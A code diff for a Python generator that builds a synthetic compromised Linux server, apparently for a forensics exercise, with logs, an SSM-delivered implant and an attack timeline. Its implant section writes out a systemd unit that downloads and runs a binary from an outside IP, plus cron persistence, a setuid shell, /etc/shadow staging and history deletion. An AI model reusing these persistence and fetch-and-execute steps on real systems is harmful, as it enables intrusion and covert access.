@@ -12,11 +12,12 @@ import os
 import random
 import struct
 import sys
-from datetime import datetime, timezone
 
-from story_host import (INSTANCE, MACHINE, at, audit_lines, audit_old,
-                        cloud_init, etc_files, journal, messages, secure,
-                        wtmp, zone)
+import story_audit
+import story_login
+from story_host import (MACHINE, cloud_init, etc_files, journal, messages,
+                        zone)
+from story_login import CMD, INSTANCE, at, typed
 
 ROOT, APP, NGINX, USER = 0, 1001, 993, 1000
 BUILT = at(-13, 21, 14, 0)   # 15 February: the distribution's image
@@ -24,7 +25,6 @@ BASE = at(8, 22, 40, 0)      # 8 March: what ci-deploy added to it
 BOOT = at(9, 0, 10, 0)
 DROP = at(11, 3, 20, 15)
 SSM = "/var/lib/amazon/ssm/" + INSTANCE + "/document/orchestration/"
-CMD = "5f0c2d7e-8b1a-4c39-9e42-3d1b7a60f215"
 QUEUE = "/var/tmp/.q"
 # the first fitting line gives the label's type
 LABELS = [("/etc/shadow", "shadow_t"), ("/etc/cron.d", "system_cron_spool_t"),
@@ -55,10 +55,19 @@ class Story:
         raw = path if isinstance(path, bytes) else path.encode()
         return "/r" + escape(raw)
 
-    def label(self, path):
+    @staticmethod
+    def kind(path):
         raw = path if isinstance(path, bytes) else path.encode()
-        kind = [k for p, k in LABELS if raw.startswith(p.encode())][0]
-        text = "system_u:object_r:%s:s0\0" % kind
+        return "system_u:object_r:%s:s0" % [
+            k for p, k in LABELS if raw.startswith(p.encode())][0]
+
+    def audit_label(self, path):
+        """Of a path, or of the implant, which has none in the truth."""
+        return self.kind("/usr/local/bin/.sysupd" if path == "(unlinked)"
+                         else path)
+
+    def label(self, path):
+        text = self.kind(path) + "\0"
         return "x\t%s\tsecurity.selinux\t%s" % (self.place(path),
                                                text.encode().hex())
 
@@ -96,10 +105,15 @@ class Story:
         before, ns = None, 0
         with open(path, "w") as f:
             for t, _, lines in sorted(self.steps):
-                low = ns if t == before else 0
-                ns = low + self.rng.randrange((10 ** 9 - low) // 8)
-                before = t
-                f.write("t\t%d\t%d\n" % (t, ns))
+                low = ns if int(t) == before else 0
+                if t == int(t):
+                    ns = low + self.rng.randrange((10 ** 9 - low) // 8)
+                else:   # to the millisecond, which a log tells too
+                    ns = max(low, round((t - int(t)) * 1000) * 10 ** 6) + \
+                        self.rng.randrange(10 ** 6)
+                    assert ns < 10 ** 9
+                before = int(t)
+                f.write("t\t%d\t%d\n" % (before, ns))
                 f.writelines(line + "\n" for line in lines)
 
 
@@ -109,6 +123,7 @@ def distribution(s):
     for path in ("/boot /dev /etc /etc/cron.d /etc/ssh /etc/systemd "
                  "/etc/systemd/system /etc/systemd/system/timers.target.wants "
                  "/etc/systemd/system/multi-user.target.wants /etc/sudoers.d "
+                 "/etc/profile.d /etc/audit /etc/audit/rules.d /etc/yum.repos.d "
                  "/home /media /mnt /opt /proc /run /srv /sys /usr /usr/bin "
                  "/usr/lib /usr/lib/systemd /usr/lib/systemd/system /usr/lib64 "
                  "/usr/local /usr/local/bin /usr/sbin /usr/share "
@@ -149,6 +164,10 @@ def programs(s):
     s.file(BUILT + 131, "/usr/bin/arping", "stand-in: arping\n", 0o755)
     s.attr(BUILT + 131, "/usr/bin/arping", "security.capability",
            struct.pack("<5I", 0x02000001, 1 << 13, 0, 0, 0))
+    s.file(BUILT + 131, "/usr/lib64/ld-linux-x86-64.so.2",
+           "stand-in: the loader\n", 0o755)
+    s.file(BUILT + 131, "/usr/lib/systemd/systemd", "stand-in: systemd\n",
+           0o755)
     s.op(BUILT + 132, "h", s.place("/usr/bin/vi"), s.place("/usr/bin/view"))
     # a folder of node form, one of leaf form
     for i in range(700):
@@ -187,6 +206,11 @@ def base_image(s):
            "nginx-1:1.28.0-1.amzn2023.0.2.x86_64\n"
            "2026-03-08T22:40:28+0000 SUBDEBUG Installed: "
            "rsyslog-8.2204.0-3.amzn2023.0.4.x86_64\n")
+    s.file(BASE + 30, "/var/log/dnf.log",
+           "2026-03-08T22:40:02+0000 INFO --- logging initialized ---\n"
+           "2026-03-08T22:40:02+0000 DDEBUG Command: dnf -y install nginx "
+           "rsyslog \n2026-03-08T22:40:02+0000 DDEBUG Installroot: /\n"
+           "2026-03-08T22:40:29+0000 INFO Complete!\n")
 
 
 def first_boot(s):
@@ -196,8 +220,7 @@ def first_boot(s):
                  "/home/ec2-user/.aws"):
         s.folder(BOOT + 5, path, 0o700, USER)
     s.file(BOOT + 6, "/home/ec2-user/.ssh/authorized_keys",
-           "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEonlyNOTaREALkey00000"
-           "0000000000 alice\n", 0o600, USER)
+           "ssh-ed25519 %s alice\n" % story_login.ALICE_KEY, 0o600, USER)
     cloud = "/var/lib/cloud"
     for path in (cloud + "/data", cloud + "/instances",
                  cloud + "/instances/" + INSTANCE,
@@ -215,12 +238,11 @@ def first_boot(s):
     s.file(BOOT + 1, "/var/log/cloud-init.log", log, 0o640)
     s.file(BOOT + 7, "/var/log/cloud-init-output.log", output, 0o640)
     s.file(BOOT + 8, "/var/log/amazon/ssm/amazon-ssm-agent.log",
-           "2026-03-09 00:10:08 INFO [amazon-ssm-agent] amazon-ssm-agent - "
-           "v3.3.3050.0\n2026-03-09 00:10:09 INFO [ssm-agent-worker] "
-           "instance id %s, region ap-northeast-1\n" % INSTANCE, 0o600)
+           story_login.agent_boot(), 0o600)
     s.file(BOOT + 9, "/var/log/messages", messages(None, 9), 0o600)
     s.file(BOOT + 9, "/var/log/secure", "", 0o600)
-    s.file(BOOT + 9, "/var/log/wtmp", wtmp(False), 0o664)
+    s.file(BOOT + 9, "/var/log/wtmp", story_login.wtmp(False), 0o664)
+    s.file(BOOT + 9, "/var/log/btmp", "", 0o660)
     s.file(BOOT + 9, "/var/log/audit/audit.log", "", 0o600)
     last = bytearray(292 * 1002)
     last[292 * 1000:292 * 1001] = struct.pack(
@@ -229,28 +251,20 @@ def first_boot(s):
 
 
 def alice_builds(s):
-    t = at(9, 0, 47, 31)
     home = "/home/ec2-user/"
-    s.append(t, "/var/log/secure", secure(9))
-    s.append(t, "/var/log/wtmp", wtmp(True))
-    typed = [(t + 60, "lsblk"), (t + 150, "sudo mkfs.ext4 -L data "
-                                 "/dev/nvme1n1"),
-             (t + 161, "sudo mount LABEL=data /data"),
-             (at(9, 0, 51, 0), "sudo install -d /data/log"),
-             (at(9, 0, 52, 3), "sudo -u app git clone reports /data/www"),
-             (at(9, 0, 58, 0), "sudo systemctl restart reports nginx"),
-             (at(9, 1, 2, 44), "aws s3 ls s3://corp-reports-111122223333/ "
-              "--profile reports-ro"), (at(9, 1, 3, 30), "exit")]
+    # rsyslog and sshd write as it comes; the last change is the last line's
+    s.append(at(9, 1, 3, 30), "/var/log/secure", story_login.alice_secure())
+    s.append(at(9, 1, 3, 30), "/var/log/wtmp", story_login.wtmp(True))
     s.file(at(9, 1, 3, 30), home + ".bash_history",
-           "".join("#%d\n%s\n" % x for x in typed), 0o600, USER)
+           typed(story_login.alice_history()), 0o600, USER)
     s.file(at(9, 1, 2, 10), home + ".aws/config",
            "[profile reports-ro]\nregion = ap-northeast-1\n", 0o600, USER)
     s.file(at(9, 1, 2, 12), home + ".aws/credentials",
            "[reports-ro]\naws_access_key_id = AKIAREPORTSROEXAMPLE\n"
            "aws_secret_access_key = EXAMPLEEXAMPLEnotAsecretEXAMPLEEXAMPLE0\n",
            0o600, USER)
-    s.file(at(9, 1, 3, 31), "/root/.bash_history",
-           "#1773017331\nblkid\n#1773017460\nchown app: /data/www\n", 0o600)
+    s.file(at(9, 0, 55, 2), "/root/.bash_history",
+           typed(story_login.ROOT_HISTORY), 0o600)
     s.append(at(9, 0, 50, 40), "/etc/fstab",
              "LABEL=data /data ext4 defaults,nofail 0 2\n")
     deep = "/home/ec2-user/" + "/".join("release-%02d" % i for i in range(40))
@@ -277,6 +291,24 @@ def odd_names(s):
     s.attr(BOOT + 2, "/var/log/journal", "system.posix_acl_access", acl)
 
 
+def audit_log(s, inodes):
+    top = SSM + CMD + "/awsrunShellScript/0.awsrunShellScript/_script.sh"
+    told = story_audit.events(inodes, s.audit_label, top)
+    rotated = at(11, 1, 6, 0)
+    old = [e for e in told if e[0] < rotated * 1000]
+    path = "/var/log/audit/audit.log"
+    for i in range(0, len(old), 1000):
+        s.append(old[min(i + 999, len(old) - 1)][0] // 1000, path,
+                 "".join(text for _, text in old[i:i + 1000]))
+    s.op(rotated, "m", s.place(path), s.place(path + ".1"))
+    s.op(rotated, "c", s.place(path + ".1"), "400")
+    s.file(rotated, path, "", 0o600)
+    new = told[len(old):]
+    for i in range(0, len(new), 100):
+        s.append(new[min(i + 99, len(new) - 1)][0] // 1000, path,
+                 "".join(text for _, text in new[i:i + 100]))
+
+
 def logs(s, samples):
     s.folder(BOOT + 1, "/var/log/journal", 0o755)
     s.folder(BOOT + 1, "/var/log/journal/" + MACHINE, 0o755)
@@ -285,24 +317,14 @@ def logs(s, samples):
     s.append(at(10, 23, 59, 0), "/var/log/messages", messages(None, 10))
     told = [e for e in events if e[0] < at(11, 4, 22, 0) * 1000]
     for ms, text in told:
-        s.append(ms // 1000, "/var/log/messages", text + "\n")
-    s.append(at(11, 1, 41, 40), "/var/log/secure", secure(11))
-    old = audit_old()
-    for i in range(0, len(old), 1000):
-        s.append(old[min(i + 999, len(old) - 1)][0] // 1000,
-                 "/var/log/audit/audit.log",
-                 "".join(text for _, text in old[i:i + 1000]))
-    rotated = at(11, 1, 6, 0)
-    s.op(rotated, "m", s.place("/var/log/audit/audit.log"),
-         s.place("/var/log/audit/audit.log.1"))
-    s.op(rotated, "c", s.place("/var/log/audit/audit.log.1"), "400")
-    s.file(rotated, "/var/log/audit/audit.log", "", 0o600)
-    s.append(at(11, 3, 33, 18), "/var/log/audit/audit.log", audit_lines())
-    s.append(DROP + 3, "/var/log/amazon/ssm/amazon-ssm-agent.log",
-             "2026-03-11 03:20:14 INFO [ssm-document-worker] [%s] document "
-             "execution started\n2026-03-11 03:20:17 INFO "
-             "[ssm-document-worker] [%s] document execution finished, status "
-             "Success\n" % (CMD, CMD))
+        s.append(ms / 1000, "/var/log/messages", text + "\n")
+    t = story_login.SCANNED[-1][0]
+    s.append(t + 1, "/var/log/secure", story_login.scanner_secure())
+    s.append(t, "/var/log/btmp", story_login.btmp())
+    s.append(at(11, 3, 38, 31), "/var/log/secure",
+             story_login.attacker_secure())
+    s.append(DROP + 2.061, "/var/log/amazon/ssm/amazon-ssm-agent.log",
+             story_login.agent_command())
     binary = "/var/log/journal/%s/system.journal" % MACHINE
     s.file(BOOT + 1, binary, "", 0o640)
     s.op(at(11, 4, 1, 1), "o", s.place(binary), "0",
@@ -327,25 +349,25 @@ def implant(s, program):
     s.file(DROP - 1, top + "/stdout", "", 0o600)
     s.file(DROP, top + "/stderr", "bash: warning: setlocale: LC_ALL: cannot "
            "change locale (en_US.UTF-8)\n", 0o600)
-    s.file(DROP, "/usr/local/bin/.sysupd", open(program, "rb").read())
-    s.op(DROP + 1, "c", s.place("/usr/local/bin/.sysupd"), "755")
-    s.file(DROP + 1, "/etc/cron.d/sysupd",
+    s.file(DROP + .148, "/usr/local/bin/.sysupd", open(program, "rb").read())
+    s.op(DROP + 1.021, "c", s.place("/usr/local/bin/.sysupd"), "755")
+    s.file(DROP + 1.031, "/etc/cron.d/sysupd",
            "*/10 * * * * root /usr/local/bin/.sysupd\n")
     # it runs, and removes its own file
-    s.op(DROP + 2, "k", s.place("/usr/local/bin/.sysupd"))
-    s.op(DROP + 2, "u", s.place("/usr/local/bin/.sysupd"))
+    s.op(DROP + 2.009, "k", s.place("/usr/local/bin/.sysupd"))
+    s.op(DROP + 2.145, "u", s.place("/usr/local/bin/.sysupd"))
     units = "/etc/systemd/system/"
-    s.file(DROP + 4, units + "sysupd.service",
+    s.file(DROP + 4.210, units + "sysupd.service",
            "[Unit]\nDescription=System update check\n[Service]\n"
            "Type=forking\nExecStart=/bin/sh -c 'curl -fsS -o "
            "/usr/local/bin/.sysupd http://198.51.100.66/u && chmod 755 "
            "/usr/local/bin/.sysupd && setsid /usr/local/bin/.sysupd &'\n"
            "[Install]\nWantedBy=multi-user.target\n")
-    s.file(DROP + 4, units + "sysupd.timer",
+    s.file(DROP + 4.214, units + "sysupd.timer",
            "[Unit]\nDescription=System update check\n[Timer]\n"
            "OnBootSec=5min\nOnUnitActiveSec=2h\n[Install]\n"
            "WantedBy=timers.target\n")
-    s.link(at(11, 3, 33, 18), units + "timers.target.wants/sysupd.timer",
+    s.link(at(11, 3, 33, 18) + .871, units + "timers.target.wants/sysupd.timer",
            units + "sysupd.timer")
     t = at(11, 3, 37, 30)
     s.folder(t, QUEUE, 0o700)
@@ -353,7 +375,9 @@ def implant(s, program):
            "/etc/hosts /etc/shadow /root\n" % QUEUE, 0o700)
     s.file(t + 2, QUEUE + "/hosts.txt", "10.0.1.20 app-01\n10.0.1.21 app-02\n"
            "10.0.1.1 gateway\n", 0o600)
-    s.file(t + 4, QUEUE + "/sh", "stand-in: a shell\n", 0o4755)
+    s.file(t + 4, QUEUE + "/sh", "stand-in: bash\n", 0o4755)
+    for row in story_login.ATTACKER_HISTORY:
+        s.append(row[0], "/root/.bash_history", typed([row]))
     s.file(t + 9, QUEUE + "/log", "03:37:39 queue up\n", 0o600)
 
 
@@ -377,9 +401,17 @@ def last_half_minute(s):
     s.link(t(22, 7), units + "multi-user.target.wants/sysupd.service",
            units + "sysupd.service")
     s.op(t(22, 9), "c", s.place("/etc/cron.d/sysupd"), "600")
+    s.op(t(22, 10), "u", s.place("/root/.bash_history"))
     s.append(t(22, 11), "/var/log/amazon/ssm/amazon-ssm-agent.log",
-             "2026-03-11 04:22:11 INFO [ssm-agent-worker] [HealthCheck] "
-             "reporting agent health\n")
+             story_login.agent_health())
+
+
+def numbers(truth):
+    """Inodes of the run before, which the audit log names; pack.py says
+    when they were others this time."""
+    with open(truth, encoding="ascii") as f:
+        return {r[1]: int(r[2]) for r in (line.split("\t") for line in f
+                                          if line[0] != "#")}
 
 
 def main(samples, program, contents, ops):
@@ -388,6 +420,7 @@ def main(samples, program, contents, ops):
     base_image(s)
     first_boot(s)
     alice_builds(s)
+    audit_log(s, numbers(samples + "/expected-root.tsv"))
     logs(s, samples)
     odd_names(s)
     implant(s, program)
